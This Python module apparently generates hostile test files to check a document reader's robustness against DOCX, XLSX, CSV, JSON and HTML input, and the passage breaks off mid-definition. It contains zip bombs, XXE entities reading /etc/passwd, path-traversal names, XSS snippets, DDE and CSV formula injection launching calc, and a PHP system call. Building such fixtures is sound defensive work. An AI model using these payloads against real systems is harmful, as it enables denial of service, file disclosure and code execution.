"""Files of foreign formats made to break their readers: names, and what makes their contents; some are large.

Those of PDF are in hostile_pdfs.py. ZIPS are folders of a guide in a zip file.
"""

import json
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from functools import cache, partial

from format_files import (
    DOCX_BODY,
    HTML_BODY,
    ODS_BODY,
    ODT_BODY,
    ROWS,
    SOUND,
    STYLES,
    TITLE,
    WORDS,
    XML,
    Member,
    S,
    W,
    cell,
    chapter_xml,
    compound,
    content_xml,
    document_xml,
    docx_parts,
    epub_parts,
    filled,
    html,
    member,
    odf_parts,
    paragraph,
    pptx_parts,
    relations,
    sheet_xml,
    slide_xml,
    table_row_xml,
    tables_xml,
    xls,
    xlsx_parts,
    zip_of,
    zipped,
)
from hostile_pdfs import PDFS

Make = Callable[[], bytes]
SECRET = "/etc/passwd"  # of which no line may ever stand in a text
SCRIPT = "<script>window.hostile = 1; alert(1)</script>"
REMOTE = "http://hostile.example"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89" + bytes(200)
OLE = bytes.fromhex("d0cf11e0a1b11ae1")


@dataclass(frozen=True, slots=True)
class Packed:
    """A format that is XML in a zip file."""

    main: str  # the member that has the text
    parts: Callable[[str | bytes], dict[str, str | bytes]]  # all members, of the text of the main one
    xml: Callable[[str, str], str]  # the text of the main one: of some markup in its body, and what stands before all
    around: Callable[[str], str]  # markup in the body that shows a text
    nested: tuple[str, str]  # an element of the body that may hold itself


PACKED: dict[str, Packed] = {
    ".docx": Packed(
        "word/document.xml",
        lambda text: docx_parts(document=text),
        lambda body, before: document_xml(DOCX_BODY + body, before),
        paragraph,
        ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
    ),
    ".odt": Packed(
        "content.xml",
        lambda text: odf_parts("text", text),
        lambda body, before: content_xml(ODT_BODY + body, before),
        lambda text: f"<text:p>{text}</text:p>",
        ("<text:section>", "</text:section>"),
    ),
    ".pptx": Packed(
        "ppt/slides/slide1.xml",
        lambda text: pptx_parts(slide=text),
        lambda body, before: slide_xml(text=f"{WORDS}</a:t></a:r></a:p>{body}<a:p><a:r><a:t>", before=before),
        lambda text: f"<a:p><a:r><a:t>{text}</a:t></a:r></a:p>",
        ("<p:grpSp>", "</p:grpSp>"),
    ),
    ".epub": Packed(
        "chapter.xhtml",
        lambda text: epub_parts(chapter=text),
        lambda body, before: chapter_xml(HTML_BODY + body, before),
        lambda text: f"<p>{text}</p>",
        ("<div>", "</div>"),
    ),
    ".xlsx": Packed(
        "xl/worksheets/sheet1.xml",
        lambda text: xlsx_parts(sheet=text),
        lambda body, before: sheet_xml(f"{ROWS}{body}", before),
        lambda text: f'<row r="3">{cell("A3", text)}</row>',
        ("<x>", "</x>"),
    ),
    ".ods": Packed(
        "content.xml",
        lambda text: odf_parts("spreadsheet", text),
        lambda body, before: tables_xml(ODS_BODY + body, before),
        table_row_xml,
        ("<text:span>", "</text:span>"),
    ),
}
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{row} "{f"&a{row - 1};" * 10}">' for row in range(1, 10))
    + "]>"
)
EXTERNAL = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{SECRET}">]>'
PARAMETER = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "file://{SECRET}"> %p;]>'
REMOTE_TYPE = f'<!DOCTYPE x SYSTEM "{REMOTE}/x.dtd">'
TRAVERSALS = (
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\boot.ini",
    "CON",
    "nul.txt",
    "a\0b.xml",
    "\u202exml.odcod",
    "word/../../../../tmp/hostile",
    "x" * 5_000,
    "",
    "/",
)


@cache
def _empty_members() -> tuple[Member, ...]:
    return tuple(member(f"media/{row}", b"") for row in range(100_000))


def _of(format: Packed, body: str = "", before: str = "") -> bytes:
    return zipped(format.parts(format.xml(body, before)))


def _bomb(format: Packed, megabytes: int, fill: bytes = b" ", **more: int) -> bytes:
    """A main member with a text of many megabytes."""
    head, _, tail = format.xml(format.around("@@"), "").partition("@@")
    whole = filled(format.main, head.encode(), megabytes, fill, tail.encode(), **more)
    return zipped(format.parts(""), whole)


def _changed(format: Packed, **more: int) -> bytes:
    """A main member that is sound but for the headings of its zip file."""
    return zipped(format.parts(""), member(format.main, format.xml("", "").encode(), **more))


def _copies(one: Member, count: int, at: int = -1) -> list[Member]:
    """Members of other names; they begin where the first does, if ``at`` says so."""
    return [one, *(replace(one, name=b"%d-%s" % (row, one.name), at=at) for row in range(1, count))]


def _overlapping(format: Packed) -> bytes:
    """Many members that are one and the same bomb."""
    texts = [member(name, text) for name, text in format.parts(format.xml("", "")).items()]
    return zip_of([*_copies(filled("media", b"", 50), 1_500, at=0), *texts])


def _nested_zips(depth: int = 8) -> bytes:
    data = zip_of([filled("zeros", b"", 100, b"\0")])
    for row in range(depth):
        data = zip_of([member(f"{row}-{copy}.zip", data) for copy in range(4)])
    return data


def _packed(ending: str, format: Packed) -> dict[str, Make]:
    opening, closing = format.nested
    deep = 100_000
    body = partial(_of, format)
    flat = format.around
    attributes = " ".join(f'a{row}="x"' for row in range(200_000))
    cases: dict[str, Make] = {
        "1 GB": lambda: _bomb(format, 1_000),
        "1 GB apart": lambda: zipped(format.parts(format.xml("", "")), filled("media/image1.png", b"", 1_000, b"\0")),
        "lying about its size": lambda: _bomb(format, 1_000, size=2_000),
        "a paragraph of 200 MB": lambda: _bomb(format, 200, b"word "),
        "a word of 40 MB": lambda: _bomb(format, 40, b"x"),
        "elements of 40 MB": lambda: _bomb(format, 40, b"<b/>"),
        "100,000 members": lambda: zipped(format.parts(format.xml("", "")), *_empty_members()),
        "overlapping": lambda: _overlapping(format),
        "nested zips": lambda: zipped(format.parts(format.xml("", "")), member("media/a.zip", _nested_zips())),
        "billion laughs": lambda: body(flat("&a9;"), LAUGHS),
        "external entity": lambda: body(flat("&e;"), EXTERNAL),
        "parameter entity": lambda: body("", PARAMETER),
        "doctype": lambda: body("", REMOTE_TYPE),
        "undeclared entity": lambda: body(flat("&nbsp;&hostile;")),
        "utf-16 entity": lambda: zipped(
            format.parts(("\ufeff" + format.xml(flat("&e;"), EXTERNAL).replace("UTF-8", "UTF-16")).encode("utf-16-le"))
        ),
        "utf-7": lambda: zipped(format.parts(format.xml("", "").replace("UTF-8", "UTF-7"))),
        "100,000 nested": lambda: body(opening * deep + closing * deep),
        "100,000 unclosed": lambda: body(opening * deep),
        "200,000 attributes": lambda: body(opening.replace(">", f" {attributes}>", 1) + closing),
        "100,000 namespaces": lambda: body("".join(f'<z{row} xmlns:z{row}="u{row}"/>' for row in range(100_000))),
        "instructions": lambda: body(f'<?xml-stylesheet href="file://{SECRET}"?><?php system("id") ?>'),
        "inclusion": lambda: body(
            f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{SECRET}" parse="text"/>'
        ),
        "surrogates": lambda: body(flat("a\ud800b \udfff")),
        "controls": lambda: body(flat("a\0b \x01\x1b[31m")),
        "references to controls": lambda: body(flat("&#0;&#x1b;&#xD800;&#x110000;")),
        "turned round": lambda: body(flat("\u202eyap ot tnaw uoY\u202c \u2066never closed \u200b\u200b\ufeff")),
        "markup": lambda: body(flat("&lt;script&gt;window.hostile = 1&lt;/script&gt;")),
        "traversal": lambda: zipped(
            format.parts(format.xml("", "")), *(member(name, b"hostile") for name in TRAVERSALS)
        ),
        "main is a link": lambda: zipped(
            format.parts(""), member(format.main, SECRET.encode(), attributes=0o120777 << 16)
        ),
        "main twice": lambda: zip_of(
            [
                *(member(name, text) for name, text in format.parts(format.xml("", "")).items()),
                member(format.main, b"<x/>"),
            ]
        ),
        "no main": lambda: zip_of(
            [member(name, text) for name, text in format.parts("").items() if name != format.main]
        ),
        "main empty": lambda: zipped(format.parts("")),
        "main is noise": lambda: zipped(format.parts(b"\xff" * 10_000)),
        "main is another root": lambda: zipped(format.parts(f"{XML}<hostile/>")),
        "main is cut": lambda: zipped(format.parts(format.xml("", "")[:-40])),
        "encrypted member": lambda: _changed(format, flags=1),
        "unknown packing": lambda: _changed(format, method=99),
        "wrong packing": lambda: _changed(format, method=14),
        "other names": lambda: zipped({name.upper(): text for name, text in format.parts(format.xml("", "")).items()}),
        "encrypted": lambda: compound("EncryptedPackage", b"\x07" * 5_000),
        "noise": lambda: b"PK\x03\x04" + b"\xff" * 10_000,
        "no members": lambda: zip_of([]),
        "behind noise": lambda: b"\xff" * 5_000 + SOUND[ending],
        "lock file": lambda: b"\x05hostile".ljust(162, b"\0"),
    }
    cases["wrong checksum"] = lambda: SOUND[ending].replace(
        struct.pack("<I", zlib.crc32(format.xml("", "").encode())), b"\1\2\3\4"
    )
    return {f"{name}{ending}": make for name, make in cases.items()}


def _docx(parts: dict[str, str | bytes] | None = None, **changed: str | bytes) -> bytes:
    return zipped({**docx_parts(**changed), **(parts or {})})


def _numbering(format: str, start: int | str, text: str = "%1.") -> bytes:
    level = (
        f'<w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:numFmt w:val="{format}"/><w:lvlText w:val="{text}"/></w:lvl>'
    )
    numbering = (
        f'{XML}<w:numbering {W}><w:abstractNum w:abstractNumId="0">{level}</w:abstractNum><w:num w:numId="1">'
        '<w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    listed = paragraph("Item", '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>')
    return _docx(document=document_xml(DOCX_BODY + listed * 3), numbering=numbering)


def _table(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + paragraph("deep") + f"{paragraph('')}</w:tc></w:tr></w:tbl>" * depth


CELL = f"<w:tc>{paragraph('x')}</w:tc>"
LINKED = relations(
    ("styles", "styles.xml"),
    ("image", f"../../../../..{SECRET}"),
    ("aFChunk", f"file://{SECRET}"),
    ("header", "/etc/passwd"),
    ("footnotes", "../../../etc/passwd"),
    ("numbering", "document.xml"),
)
WORD: dict[str, Make] = {
    "macros.docx": lambda: _docx({"word/vbaProject.bin": compound("VBA", b"\xcc\x61" * 3_000)}),
    "linked.docx": lambda: _docx(
        {"word/_rels/document.xml.rels": LINKED},
        document=document_xml(DOCX_BODY + '<w:altChunk r:id="rId3"/><w:subDoc r:id="rId2"/>'),
    ),
    "fields.docx": lambda: _docx(
        document=document_xml(
            DOCX_BODY
            + f"<w:p><w:fldSimple w:instr='INCLUDETEXT \"{SECRET}\"'><w:r><w:t>shown</w:t></w:r></w:fldSimple><w:r><w:instrText>"
            'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
            + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'
            * 5_000
        )
    ),
    "styles in a circle.docx": lambda: _docx(
        styles=f'{XML}<w:styles {W}><w:style w:type="paragraph" w:styleId="1"><w:basedOn w:val="2"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="2"><w:basedOn w:val="1"/></w:style></w:styles>'
    ),
    "styles in a chain.docx": lambda: _docx(
        styles=f"{XML}<w:styles {W}>"
        + "".join(
            f'<w:style w:type="paragraph" w:styleId="{row}"><w:basedOn w:val="{row + 1}"/></w:style>'
            for row in range(1, 20_000)
        )
        + "</w:styles>"
    ),
    "levels out of range.docx": lambda: _docx(
        document=document_xml(
            DOCX_BODY
            + "".join(
                paragraph(f"Level {level}", f'<w:outlineLvl w:val="{level}"/><w:pStyle w:val="nowhere"/>')
                for level in ("999999999999", "-3", "x", "", "1.5", "٣")
            )
        )
    ),
    "properties without values.docx": lambda: _docx(
        document=document_xml(
            DOCX_BODY + paragraph("x", "<w:outlineLvl/><w:pStyle/><w:numPr><w:ilvl/><w:numId/></w:numPr>") * 3
        ),
        styles=f"{XML}<w:styles {W}><w:style/><w:style w:type='paragraph'><w:name/><w:basedOn/></w:style></w:styles>",
        numbering=f"{XML}<w:numbering {W}><w:num/><w:num w:numId='1'/><w:abstractNum/><w:abstractNum w:abstractNumId='0'><w:lvl/></w:abstractNum></w:numbering>",
    ),
    "sizes.docx": lambda: _docx(
        document=document_xml(
            DOCX_BODY
            + "".join(
                f'<w:p><w:r><w:rPr><w:sz w:val="{size}"/><w:b w:val="?"/></w:rPr><w:t>Text</w:t></w:r></w:p>'
                for size in ("x", "", "-1", "1e999", "9" * 5_000)
            )
        )
    ),
    "lowerRoman.docx": lambda: _numbering("lowerRoman", 2_000_000_000),
    "upperLetter.docx": lambda: _numbering("upperLetter", 2_000_000_000),
    "chineseCounting.docx": lambda: _numbering("chineseCounting", 10**30),
    "negative.docx": lambda: _numbering("lowerRoman", -5),
    "digits.docx": lambda: _numbering("decimal", "9" * 4_500),
    "long number.docx": lambda: _numbering("decimal", 1, "%1%2%99%" * 100_000),
    "tables within tables.docx": lambda: _docx(document=document_xml(DOCX_BODY + _table(2_000))),
    "wide cells.docx": lambda: _docx(
        document=document_xml(
            f"{DOCX_BODY}<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='2000000000'/><w:vMerge/></w:tcPr>{paragraph('x')}</w:tc></w:tr></w:tbl>"
        )
    ),
    "100,000 cells.docx": lambda: _docx(
        document=document_xml(f"{DOCX_BODY}<w:tbl><w:tr>{CELL * 100_000}</w:tr></w:tbl>")
    ),
    "200,000 paragraphs.docx": lambda: _docx(document=document_xml(DOCX_BODY + paragraph("x") * 200_000)),
    "40,000 headings.docx": lambda: _docx(document=document_xml(DOCX_BODY * 20_000)),
    "200,000 runs.docx": lambda: _docx(
        document=document_xml(f"{DOCX_BODY}<w:p>{'<w:r><w:t>x </w:t></w:r>' * 200_000}</w:p>")
    ),
    "breaks.docx": lambda: _docx(document=document_xml(f"{DOCX_BODY}<w:p><w:r>{'<w:br/>' * 200_000}</w:r></w:p>")),
    "text boxes within themselves.docx": lambda: _docx(
        document=document_xml(
            f"{DOCX_BODY}<w:p><w:r>{'<w:pict><w:txbxContent><w:p><w:r>' * 500}<w:t>deep</w:t>{'</w:r></w:p></w:txbxContent></w:pict>' * 500}</w:r></w:p>"
        )
    ),
    "notes of notes.docx": lambda: _docx(
        {
            "word/_rels/document.xml.rels": relations(("styles", "styles.xml"), ("footnotes", "footnotes.xml")),
            "word/footnotes.xml": f'{XML}<w:footnotes {W}><w:footnote w:id="2"><w:p><w:r><w:footnoteReference w:id="2"/>'
            "<w:t>note</w:t></w:r></w:p></w:footnote></w:footnotes>",
        },
        document=document_xml(DOCX_BODY + '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>' * 1_000),
    ),
    "relations to itself.docx": lambda: _docx({"_rels/.rels": relations(("officeDocument", "_rels/.rels"))}),
    "no relations.docx": lambda: _docx({"_rels/.rels": "", "word/_rels/document.xml.rels": "<"}),
    "styles are noise.docx": lambda: _docx(styles=b"\xff" * 1_000),
    "styles with laughs.docx": lambda: _docx(styles=STYLES.replace("<w:styles", f"{LAUGHS}<w:styles")),
    "old.doc": lambda: compound("WordDocument", b"\xec\xa5\xc1\x00" * 2_000),
    "magic alone.docx": lambda: OLE,
}


def _xlsx(**changed: str | bytes) -> bytes:
    return zipped(xlsx_parts(**changed))


def _ods(rows: str) -> bytes:
    return zipped(odf_parts("spreadsheet", tables_xml(ODS_BODY + rows)))


SHEETS: dict[str, Make] = {
    "a million columns.xlsx": lambda: _xlsx(sheet=sheet_xml(dimension="A1:ZZZZZ1048576")),
    "dimension is noise.xlsx": lambda: _xlsx(sheet=sheet_xml(dimension="Z9:A1:$$:-5")),
    "far apart.xlsx": lambda: _xlsx(sheet=sheet_xml(f'{ROWS}<row r="1048576">{cell("XFD1048576", "far")}</row>')),
    "beyond the sheet.xlsx": lambda: _xlsx(
        sheet=sheet_xml(f'{ROWS}<row r="9">{cell("ZZZZZZZ99999999999", "far")}</row>')
    ),
    "a million cells.xlsx": lambda: _xlsx(
        sheet=sheet_xml(ROWS + "".join(f'<row r="{row}">{"<c><v>1</v></c>" * 1_000}</row>' for row in range(3, 1_003)))
    ),
    "200,000 rows.xlsx": lambda: _xlsx(
        sheet=sheet_xml(ROWS + "".join(f'<row r="{row}">{cell(f"A{row}", "x")}</row>' for row in range(3, 200_003)))
    ),
    "no such string.xlsx": lambda: _xlsx(
        sheet=sheet_xml(f'{ROWS}<row r="3"><c r="A3" t="s"><v>99999999</v></c></row>')
    ),
    "negative string.xlsx": lambda: _xlsx(sheet=sheet_xml(f'{ROWS}<row r="3"><c r="A3" t="s"><v>-1</v></c></row>')),
    "strings that are said to be many.xlsx": lambda: _xlsx(
        strings=f'{XML}<sst {S} count="4294967295" uniqueCount="18446744073709551615"><si><t>x</t></si></sst>'
    ),
    "a string shared 50,000 times.xlsx": lambda: _xlsx(
        strings=f"{XML}<sst {S}><si><t>{'word ' * 20_000}</t></si></sst>",
        sheet=sheet_xml(
            ROWS + "".join(f'<row r="{row}"><c r="A{row}" t="s"><v>0</v></c></row>' for row in range(3, 50_003))
        ),
    ),
    "merged.xlsx": lambda: _xlsx(
        sheet=sheet_xml(behind='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    ),
    "numbers.xlsx": lambda: _xlsx(
        sheet=sheet_xml(
            f'{ROWS}<row r="3"><c r="A3"><v>1e999</v></c><c r="B3"><v>NaN</v></c><c r="C3"><v>{"9" * 5_000}</v></c>'
            '<c r="D3" t="d"><v>99999-99-99</v></c><c r="E3" t="e"><v>#REF!</v></c><c r="F3" t="?"><v>x</v></c></row>'
        )
    ),
    "formulas.xlsx": lambda: _xlsx(
        sheet=sheet_xml(
            f'{ROWS}<row r="3"><c r="A3" t="str"><f>cmd|\'/C calc\'!A0</f><v>shown</v></c>{cell("B3", "=HYPERLINK(1)")}</row>'
        )
    ),
    "names.xlsx": lambda: _xlsx(
        workbook=xlsx_parts()["xl/workbook.xml"].replace('"FAQ"', '"../../&lt;script&gt;alert(1)&lt;/script&gt;\u202e"')
    ),
    "10,000 sheets.xlsx": lambda: _xlsx(
        workbook=xlsx_parts()["xl/workbook.xml"].replace(
            "</sheets>",
            "".join(f'<sheet name="s{row}" sheetId="{row}" r:id="rId1"/>' for row in range(2, 10_000)) + "</sheets>",
        )
    ),
    "no sheet.xlsx": lambda: _xlsx(workbook=f"{XML}<workbook {S}><sheets/></workbook>"),
    "sheet elsewhere.xlsx": lambda: zipped(
        {**xlsx_parts(), "xl/_rels/workbook.xml.rels": relations(("worksheet", f"../../../..{SECRET}"))}
    ),
    "macros.xlsx": lambda: zipped({**xlsx_parts(), "xl/vbaProject.bin": compound("VBA", b"\xcc\x61" * 3_000)}),
    "binary workbook.xlsx": lambda: zipped({"xl/workbook.bin": b"\x83\x01\xff" * 900, "[Content_Types].xml": "<x/>"}),
    "a billion columns.ods": lambda: _ods(
        '<table:table-row><table:table-cell table:number-columns-repeated="1000000000" office:value-type="string">'
        "<text:p>x</text:p></table:table-cell></table:table-row>"
    ),
    "a billion rows.ods": lambda: _ods(
        table_row_xml("x", "y").replace(
            "<table:table-row>", '<table:table-row table:number-rows-repeated="1000000000">'
        )
    ),
    "a billion empty rows.ods": lambda: _ods(
        '<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16384"/>'
        "</table:table-row>" + table_row_xml("x", "y")
    ),
    "repeated less than once.ods": lambda: _ods(
        '<table:table-row table:number-rows-repeated="-5"><table:table-cell table:number-columns-repeated="x"/></table:table-row>'
    ),
    "noise.xls": lambda: compound("Workbook", b"\xff" * 5_000),
    "records out of range.xls": lambda: compound("Workbook", b"\x09\x08\x10\0" + b"\xff\xff" * 3_000),
    "no workbook.xls": lambda: compound("Other", b"x" * 5_000),
    "sectors in a circle.xls": lambda: SOUND[".xls"].replace(struct.pack("<I", 3), struct.pack("<I", 2), 1),
    "huge sectors.xls": lambda: SOUND[".xls"][:30] + b"\x1f\0" + SOUND[".xls"][32:],
    "far apart.xls": lambda: SOUND[".xls"].replace(
        struct.pack("<HHHHHB", 0x204, 9 + len(WORDS), 1, 1, 0, len(WORDS)),
        struct.pack("<HHHHHB", 0x204, 9 + len(WORDS), 65_535, 65_535, 0, len(WORDS)),
    ),
    "60,000 rows.xls": lambda: xls((("x", "y"),) * 60_000),
    "magic alone.xls": lambda: OLE + b"\xff" * 5_000,
    "a cell of 10 MB.csv": lambda: b"question,answer\nRefunds?," + b"x" * 10_000_000 + b"\n",
    "a cell of 900,000.csv": lambda: b"question,answer\nRefunds?," + b"word " * 180_000 + b"\n",
    "formulas.csv": lambda: b"question,answer\nRefunds?,=cmd|' /C calc'!A0\n+1+1,@SUM(A1)\n-1,=HYPERLINK(\"x\")\n",
    "100,000 columns.csv": lambda: b",".join(b"c%d" % row for row in range(100_000)) + b"\n" + b"x," * 100_000 + b"\n",
    "a million rows.csv": lambda: b"question,answer\n" + b"a,b\n" * 1_000_000,
    "19,000 rows.csv": lambda: b"question,answer\n" + b"a?,b\n" * 9_000,
    "an open quote.csv": lambda: b'question,answer\nRefunds?,"' + b"text, and\n" * 400_000,
    "quotes.csv": lambda: b"question,answer\n" + b'"' * 4_000_001,
    "quotes and commas.csv": lambda: b"question,answer\n" + b'",' * 2_000_000,
    "separators.csv": lambda: b",;\t|" * 1_000_000,
    "line ends.csv": lambda: b"question,answer\r\r\n\n\ra,b\rc,d\n\r\n" * 1_000,
    "controls.csv": lambda: b"question,answer\nRefunds?,a\0b\x1b[31m\x07\n",
    "invalid.csv": lambda: b"question,answer\nRefunds?,\xed\xa0\x80\xff\xfe\n",
    "turned round.csv": lambda: "question,answer\n\u202eRefunds?\u202c,\u2066three\u200b days\n".encode(),
    "utf-16.csv": lambda: "\ufeffquestion\tanswer\nRefunds?\tthree days\n".encode("utf-16-le"),
    "markup.csv": lambda: f"question,answer\n{SCRIPT},<img src=x onerror=alert(1)>\n".encode(),
    "nothing.csv": lambda: b",,,\n,,,\n" * 100,
    "header alone.csv": lambda: b"question,answer\n",
    "sep.csv": lambda: b"sep=\x00\nquestion,answer\n",
    "100,000 deep.json": lambda: b"[" * 100_000 + b"]" * 100_000,
    "100,000 deep and open.json": lambda: b'{"a":' * 100_000,
    "900 deep.json": lambda: b'{"question":"a","answer":[' * 900 + b'"x"' + b"]}" * 900,
    "numbers.json": lambda: b'[{"question": 1e999, "answer": -0.0}, {"question": NaN, "answer": Infinity}]',
    "100,000 digits.json": lambda: b'[{"question": "a", "answer": ' + b"9" * 100_000 + b"}]",
    "twice.json": lambda: b'[{"question": "a?", "question": "b?", "answer": "one", "answer": "two"}]',
    "surrogates.json": lambda: (
        b'[{"question": "a\\ud83d", "answer": "\\ude00 \\u0000 \\ud800"}, {"question": "b?", "answer": "\\u202e"}]'
    ),
    "other types.json": lambda: json.dumps(
        [{"question": value, "answer": value} for value in (None, True, [], {}, [[]], {"a": None}, 0, "", "x")]
    ).encode(),
    "mixed.json": lambda: b'[1, null, "text", [], {"question": "a?", "answer": "b"}, {"x": {"question": []}}]',
    "scalar.json": lambda: b'"only a text"',
    "null.json": lambda: b"null",
    "a million entries.json": lambda: b"[" + b'{"question":"a","answer":"b"},' * 1_000_000 + b"{}]",
    "a million keys.json": lambda: b"{" + b",".join(b'"k%d":1' % row for row in range(1_000_000)) + b"}",
    "a key of 4 MB.json": lambda: b'{"' + b"k" * 4_000_000 + b'": "x"}',
    "names.json": lambda: (
        b'[{"__class__": "os.system", "__proto__": {"a": 1}, "question": "{0.__class__}", "answer": "%s"}]'
    ),
    "comments.json": lambda: b'// x\n[{"question": "a", "answer": "b",}]',
    "invalid.json": lambda: b'[{"question": "\xff\xfe", "answer": "\xed\xa0\x80"}]',
    "utf-16.json": lambda: json.dumps([{"question": "a?", "answer": "退款"}], ensure_ascii=False).encode("utf-16"),
    "one bad line.jsonl": lambda: b'{"question": "a?", "answer": "b"}\nnot json\n{"question": "c?", "answer": "d"}\n',
    "deep line.jsonl": lambda: b'{"question": "a?", "answer": "b"}\n' + b"[" * 100_000 + b"\n",
    "no line end.jsonl": lambda: b'{"question": "a?", "answer": "b"} {"question": "c?", "answer": "d"}' * 20_000,
    "line separators.jsonl": lambda: '{"question": "a\u2028?", "answer": "b\u0085c"}\r\r\n\n'.encode() * 9,
}

WEB: dict[str, Make] = {
    "100,000 nested.html": lambda: html(f"{HTML_BODY}{'<div>' * 100_000}deep"),
    "100,000 nested and closed.html": lambda: html(f"{HTML_BODY}{'<div>' * 100_000}deep{'</div>' * 100_000}"),
    "8,000 nested.html": lambda: html(f"{HTML_BODY}{'<div>' * 8_000}deep"),
    "200,000 attributes.html": lambda: html(
        f"{HTML_BODY}<p {' '.join(f'a{row}=x' for row in range(200_000))}>text</p>"
    ),
    "200,000 equal attributes.html": lambda: html(f"{HTML_BODY}<p {'a=x ' * 200_000}>text</p>"),
    "50,000 unclosed.html": lambda: html(HTML_BODY + "<b>" * 50_000 + "text"),
    "50,000 unclosed in paragraphs.html": lambda: html(HTML_BODY + "<p><b>x" * 50_000),
    "formatting.html": lambda: html(HTML_BODY + "<a><b><i><u><font>" * 5_000 + "<p>x</p>" * 5_000),
    "links within links.html": lambda: html(HTML_BODY + "<a href=x>" * 50_000),
    "tables within tables.html": lambda: html(HTML_BODY + "<table><tr><td>" * 10_000),
    "misplaced in tables.html": lambda: html(HTML_BODY + "<table>" + "<b>x<tr>" * 20_000),
    "lists within lists.html": lambda: html(HTML_BODY + "<ul><li>x" * 10_000),
    "quotes within quotes.html": lambda: html(HTML_BODY + "<blockquote><pre>" * 10_000),
    "wide cells.html": lambda: html(
        f"{HTML_BODY}<table><tr><td colspan=2000000000 rowspan=2000000000>x<td>y<tr><td>z</table>"
    ),
    "many wide cells.html": lambda: html(
        f"{HTML_BODY}<table>" + "<tr>" + "<td colspan=1000 rowspan=65534>word" * 500 + "<tr><td>z" * 500 + "</table>"
    ),
    "odd spans.html": lambda: html(
        f"{HTML_BODY}<table><tr><td rowspan=-1 colspan=x>a<td rowspan='' colspan=٣>b</table>"
    ),
    "100,000 columns.html": lambda: html(f"{HTML_BODY}<table><tr>{'<td>x' * 100_000}</table>"),
    "100,000 rows.html": lambda: html(f"{HTML_BODY}<table>{'<tr><td>x' * 100_000}</table>"),
    "scripts.html": lambda: html(
        f"{HTML_BODY}<SCRIPT>window.hostile=1</SCRIPT><style>*{{x:y}}</style><img src=x onerror=window.hostile=1>"
        f"<noscript><p>{SCRIPT}</noscript><svg onload=window.hostile=1><script>window.hostile=1</script></svg>"
        f"<math><mtext><table><mglyph><style><img src=x onerror=window.hostile=1></table></math><template>{SCRIPT}</template>"
        f"<iframe srcdoc='{SCRIPT}'></iframe><textarea>{SCRIPT}</textarea><xmp>{SCRIPT}</xmp><a href=javascript:window.hostile=1>x</a>"
    ),
    "open script.html": lambda: html(f"{HTML_BODY}<script>window.hostile=1;" + "x" * 100_000),
    "open comment.html": lambda: html(f"{HTML_BODY}<!-- {'x' * 900_000}"),
    "comments.html": lambda: html(HTML_BODY + "<!--" * 200_000),
    "conditions.html": lambda: html(HTML_BODY + "<![if x]><![CDATA[" * 50_000),
    "elsewhere.html": lambda: html(
        f'{HTML_BODY}<iframe src="file://{SECRET}"></iframe><object data="file://{SECRET}"></object><link rel=import href="{SECRET}">',
        f'<meta charset=utf-8><base href="file://{SECRET}"><meta http-equiv=refresh content="0;url={REMOTE}">',
    ),
    "entities.html": lambda: html(f"{HTML_BODY}<p>&#0;&#xD800;&#x110000;&#99999999999;&nosuch;{'&amp' * 100_000}</p>"),
    "controls.html": lambda: html(f"{HTML_BODY}<p>a\0b\x01\x1b[31m\x0c \ud800 \ufffe</p>"),
    "turned round.html": lambda: html(f"{HTML_BODY}<p>\u202eyap\u202c \u2066open <bdo dir=rtl>x</bdo></p>"),
    "40,000 headings.html": lambda: html(HTML_BODY * 40_000),
    "ids.html": lambda: html(HTML_BODY + "".join(f"<a id=x{row} name=y></a>" for row in range(100_000)) + "<p>x"),
    "a heading of 1 MB.html": lambda: html(f"<h1>{'word ' * 200_000}</h1><p>{WORDS}</p>"),
    "a word of 4 MB.html": lambda: html(f"{HTML_BODY}<p>{'x' * 4_000_000}</p>"),
    "a title of 4 MB.html": lambda: html(head=f"<meta charset=utf-8><title>{'x' * 4_000_000}</title>"),
    "hidden.html": lambda: html(f"<div hidden>{HTML_BODY}</div>"),
    "frames.html": lambda: b"<html><frameset><frame src=a.html></frameset></html>",
    "no text.html": lambda: html("<img src=x><br><hr>"),
    "plaintext.html": lambda: html(f"{HTML_BODY}<plaintext>{'<b>' * 50_000}"),
    "selects.html": lambda: html(HTML_BODY + "<select><option>" * 20_000),
    "svgs.html": lambda: html(HTML_BODY + "<svg><foreignObject><math><mi>" * 5_000),
    "templates.html": lambda: html(HTML_BODY + "<template>" * 20_000 + "x"),
    "details.html": lambda: html(HTML_BODY + "<details><summary>x" * 10_000),
    "definitions.html": lambda: html(HTML_BODY + "<dl><dt>x?<dd>" * 10_000),
    "marked as utf-7.html": lambda: html(head='<meta charset="utf-7">').replace(b"<p>", b"<p>+ADw-script+AD4-"),
    "laughs.xhtml": lambda: chapter_xml(f"{HTML_BODY}<p>&a9;</p>", LAUGHS).encode(),
    "external.xhtml": lambda: chapter_xml(f"{HTML_BODY}<p>&e;</p>", EXTERNAL).encode(),
    "half of utf-16.html": lambda: html().decode().encode("utf-16")[:-1],
}
CODECS = (
    "zip",
    "rot13",
    "unicode_escape",
    "idna",
    "hex",
    "base64",
    "undefined",
    "utf-16",
    "raw_unicode_escape",
    "mbcs",
    "x" * 9_000,
    "../../etc",
)
WEB |= {
    f"marked as {codec[:30].replace('/', '-')}.html": partial(html, head=f'<meta charset="{codec}">')
    for codec in CODECS
}

BOOKS: dict[str, Make] = {
